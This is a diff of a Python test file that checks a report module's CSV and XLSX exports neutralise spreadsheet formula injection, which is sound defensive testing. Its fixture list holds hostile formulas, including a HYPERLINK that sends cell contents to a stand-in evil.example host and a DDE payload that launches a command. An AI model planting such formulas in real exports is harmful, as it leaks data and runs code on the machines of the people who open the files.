@@ -4,12 +4,14 @@ neutralised (OWASP CSV injection) and XLSX as string cells (issue 14, item 3). F
 from __future__ import annotations
 
 import csv
+import datetime as dt
 import io
 
 import openpyxl
 import pytest
 
 from chainmap import report_formats
+from chainmap.workbook import read_rows
 from tests.conftest import reset_seeded
 
 HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"点击")', "+SUM(1,2)", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)",
@@ -29,27 +31,29 @@ def read_csv(body: bytes) -> list[list[str]]:
 
 
 def formula_cells(body: bytes) -> list[str]:
-    sheet = openpyxl.load_workbook(io.BytesIO(body)).active
-    return [cell.coordinate for r in sheet.iter_rows() for cell in r if cell.data_type == "f"]
+    book = openpyxl.load_workbook(io.BytesIO(body))
+    return [cell.coordinate for sheet in book.worksheets for r in sheet.iter_rows() for cell in r
+            if cell.data_type == "f"]
 
 
 def test_csv_cells_are_neutralised():
     rows = read_csv(report_formats.to_csv([row(h) for h in HOSTILE]))
     for hostile, cells in zip(HOSTILE, rows[1:], strict=True):
-        name_cells = [cells[i] for i in (4, 7, 14, 16)]
+        keys = [c.key for c in report_formats.COLUMNS]
+        name_cells = [cells[keys.index(k)] for k in ("cluster_name", "node_name", "single_supplier", "reasons")]
         assert name_cells == ["'" + hostile] * 4
-        assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for i, c in enumerate(cells) if i != 13)
-        assert cells[13] == "-0.5"  # a number stays a number
+        share = keys.index("outside_province_share")
+        assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for i, c in enumerate(cells) if i != share)
+        assert cells[share] == "-0.5"  # a number stays a number
 
 
 def test_xlsx_has_no_formula_cells_and_keeps_the_names():
-    body = report_formats.to_xlsx([row(h) for h in HOSTILE])
+    body = report_formats.to_xlsx([row(h) for h in HOSTILE], title="缺链报告", unit="测试", as_of=dt.date(2026, 12, 1))
     assert formula_cells(body) == []
-    sheet = openpyxl.load_workbook(io.BytesIO(body)).active
+    detail = read_rows(body, "缺链明细")
     # (XML reads a stored CR back as LF: the one change the format makes)
-    assert [sheet.cell(row=i + 2, column=8).value for i in range(len(HOSTILE))] == [h.replace("\r", "\n")
-                                                                                   for h in HOSTILE]
-    assert sheet.cell(row=2, column=14).value == -0.5
+    assert [r["产业链环节"] for r in detail] == [h.replace("\r", "\n") for h in HOSTILE]
+    assert detail[0]["省外供给占比"] == -0.5
 
 
 @pytest.fixture()
@@ -72,5 +76,5 @@ def test_report_files_from_the_api(client, keys, hostile_nodes):
     assert not any(c.startswith(("=", "+", "-", "@")) for c in cells)
     xlsx_body = client.get("/api/v1/reports/gaps?county=130534&format=xlsx", headers=keys["viewer"]).data
     assert formula_cells(xlsx_body) == []
-    values = {c.value for r in openpyxl.load_workbook(io.BytesIO(xlsx_body)).active.iter_rows() for c in r}
+    values = {c.value for r in openpyxl.load_workbook(io.BytesIO(xlsx_body))["缺链明细"].iter_rows() for c in r}
     assert set(hostile_nodes) <= values
